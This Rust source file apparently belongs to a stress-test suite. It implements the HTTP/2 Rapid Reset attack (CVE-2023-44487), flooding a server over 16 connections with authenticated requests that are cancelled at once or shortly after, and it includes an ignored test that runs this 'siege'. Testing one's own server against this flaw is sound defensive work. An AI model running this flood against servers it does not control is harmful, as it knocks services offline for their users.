//! Rapid reset (CVE-2023-44487): requests that are cancelled as soon as they are sent.

use std::sync::Arc;

use tokio::io::AsyncWriteExt;

use crate::besieged::Siege;
use crate::field::{Field, read_to_end, swarm};
use crate::frames::{self, END_STREAM};

const CONNECTIONS: usize = 16;
/// Requests in one write.
const OF_WRITE: usize = 50;

/// Cancels each request: immediately, or when the next 50 are sent, by which time the server works on it.
async fn resets(field: Arc<Field>, number: usize) {
    let Some(mut stream) = field.connect(number).await else {
        return;
    };
    if frames::begin(&mut stream, 65_535).await.is_none() {
        return;
    }
    let block = frames::block("GET", "/ebus/actions?limit=400", &field.bearer());
    let at_once = number.is_multiple_of(2);
    let (mut reads, mut writes) = stream.split();
    let sending = async {
        let (mut next, mut open) = (1, Vec::new());
        loop {
            let mut bytes = Vec::new();
            for stream in open.drain(..) {
                frames::reset(&mut bytes, stream);
            }
            for _ in 0..OF_WRITE {
                frames::request(&mut bytes, next, END_STREAM, &block);
                if at_once {
                    frames::reset(&mut bytes, next);
                } else {
                    open.push(next);
                }
                field.did();
                next += 2;
            }
            if writes.write_all(&bytes).await.is_err() {
                return;
            }
        }
    };
    tokio::select! {
        () = sending => {}
        () = read_to_end(&mut reads) => {}
    }
}

/// Requests that are cancelled, at the highest possible rate.
pub(crate) async fn rapid_resets(field: Arc<Field>) {
    swarm(&field, CONNECTIONS, resets).await;
}

#[test]
#[ignore = "a siege: make siege"]
fn requests_that_are_reset() {
    Siege::new("HTTP/2: rapid reset on 16 connections", 192).run(rapid_resets);
}
